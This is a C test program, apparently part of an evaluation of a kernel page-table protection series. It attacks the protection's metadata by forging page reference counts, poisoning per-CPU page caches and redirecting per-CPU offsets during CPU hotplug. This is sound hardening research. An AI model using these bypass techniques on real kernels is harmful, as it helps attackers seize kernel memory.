// SPDX-License-Identifier: GPL-2.0
/*
 * Description: attacks what protects page tables instead of the tables: the records of
 * who may write to them and of the memory that they are taken from, and a CPU that was
 * away. A kernel without our series has no such records; there, only tables are left.
 *
 * Usage: records TRIES (for each kind of table)
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <string.h>

#include "attack.h"
#include "kinds.h"
#include "memory.h"
#include "record.h"
#include "symbol.h"
#include "taken.h"

enum { CPUS = 2 };

/* In struct kpkeys_pool: the first block that has free pages, and the map of blocks */
enum { POOL_PARTIAL = 24, POOL_BLOCKS = 88 };

/* In struct kpkeys_cache: how many pages are at hand, and the first of them */
enum { CACHE_COUNT = 0, CACHE_PAGES = 8 };

/* In struct page: 32 bits of how often it is mapped, 32 bits of references to it */
enum { PAGE_COUNTS = 48 };

/* Nobody has mapped it, and many hold it, so that freeing it does nothing. */
#define HELD_FOR_EVER 0x00100000ffffffffUL

/* Nothing is there, in the page of a record. */
enum { END_OF_PAGE = PAGE_SIZE - sizeof(uint64_t) };

static void attack_page(const struct tables *t, uint64_t page)
{
	uint64_t word = page + END_OF_PAGE, unused;

	if (page && probe_read(t->probe, word, &unused, sizeof(unused)))
		print_write(KIND_RECORDS, probe_write(t->probe, word));
}

/* The address of the variable of a CPU, or 0. */
static uint64_t of_cpu(const struct tables *t, const char *name, size_t cpu)
{
	uint64_t variable = find_symbol(name);
	uint64_t offsets = find_symbol("__per_cpu_offset");

	return variable && offsets ? variable + read_word(t, offsets + cpu * sizeof(uint64_t)) : 0;
}

/* The kernel image's variables also have an address in the direct map. */
static void try_pool(const struct tables *t)
{
	uint64_t pool = find_symbol("kpkeys_pool"), block;
	struct tables kernel = kernels_tables(t->probe);

	if (!pool)
		return;
	attack_page(t, pool);
	attack_page(t, direct(t, physical_address(&kernel, pool)));
	attack_page(t, read_word(t, pool + POOL_BLOCKS));
	block = read_word(t, pool + POOL_PARTIAL);
	if (block != pool + POOL_PARTIAL)
		attack_page(t, block);
}

static void try_records(const struct tables *t)
{
	try_pool(t);
	for (size_t cpu = 0; cpu < CPUS; cpu++) {
		attack_page(t, of_cpu(t, "kpkeys_cache", cpu));
		attack_page(t, of_cpu(t, "kpkeys_cpu", cpu));
	}
}

static uint64_t counts_of(const struct tables *t, uint64_t page)
{
	uint64_t number = (page - t->places.direct_map) / PAGE_SIZE;

	return t->places.struct_pages + number * PAGE_DESCRIPTOR_SIZE + PAGE_COUNTS;
}

/* Have the kernel take a page of the attacker's for the next table. */
static void offer_page(const struct tables *t, uint64_t page)
{
	uint64_t cache = of_cpu(t, "kpkeys_cache", 0);

	if (!cache)
		return;
	probe_store(t->probe, counts_of(t, page), HELD_FOR_EVER);
	probe_store(t->probe, cache + CACHE_PAGES, counts_of(t, page) - PAGE_COUNTS);
	probe_store(t->probe, cache + CACHE_COUNT, 1);
}

static void try_page(const struct tables *t, uint64_t page)
{
	uint64_t counts = read_word(t, counts_of(t, page)), space;

	offer_page(t, page);
	space = new_space();
	if (took(t, page, space, KIND_FORGED_POOL))
		return;
	probe_store(t->probe, counts_of(t, page), counts);
	/* It may be as easy to write to a table that is the kernel's own. */
	attack(t, find_entry(t, space, PTE), KIND_FORGED_POOL);
}

static void try_forged_pool(const struct tables *t, size_t tries)
{
	uint64_t block = probe_make(t->probe, KPKEYS_PROBE_BLOCK);

	if (!block)
		fail("a block of memory");
	for (size_t i = 1; i <= tries; i++)
		try_page(t, block + i * PAGE_SIZE);
}

static void set_online(size_t cpu, bool online)
{
	char path[64];
	int file;

	snprintf(path, sizeof(path), "/sys/devices/system/cpu/cpu%zu/online", cpu);
	file = open(path, O_WRONLY | O_CLOEXEC);
	if (file < 0 || write(file, online ? "1" : "0", 1) != 1 || close(file))
		fail(path);
}

/*
 * Aim a CPU that is about to come up at other records. Where what it finds them by is
 * read-only, that takes a write to the table that says so. While it is offline, nobody
 * is misled by the word that changes.
 */
static void try_offsets(const struct tables *t, size_t tries)
{
	struct tables kernel = kernels_tables(t->probe);
	uint64_t offsets = find_symbol("__per_cpu_offset"), word = offsets + sizeof(uint64_t);

	if (!offsets)
		fail("the per-CPU offsets");
	for (size_t i = 0; i < tries; i++) {
		struct kpkeys_try end = probe_write(t->probe, word);

		if (end.landed)
			print_write(KIND_OFFSETS, end);
		else
			attack(t, find_leaf(&kernel, word), KIND_OFFSETS);
	}
}

/* On a CPU that was away. */
static void try_replugged(const struct tables *t, size_t tries)
{
	set_online(1, false);
	try_offsets(t, tries);
	set_online(1, true);
	if (!move_to_cpu(1))
		fail("CPU 1");
	for (size_t i = 0; i < tries; i++) {
		uint64_t space = new_space();

		for (enum level level = PTE; level < PGD; level++)
			attack(t, find_entry(t, space, level), KIND_REPLUGGED);
	}
	move_to_cpu(0);
}

int main(int argc, char **argv)
{
	size_t tries = samples_wanted(argc, argv);
	struct tables own = own_tables(probe_open());

	if (!move_to_cpu(0))
		fail("CPU 0");
	try_records(&own);
	try_replugged(&own, tries);
	try_forged_pool(&own, tries);
	return 0;
}
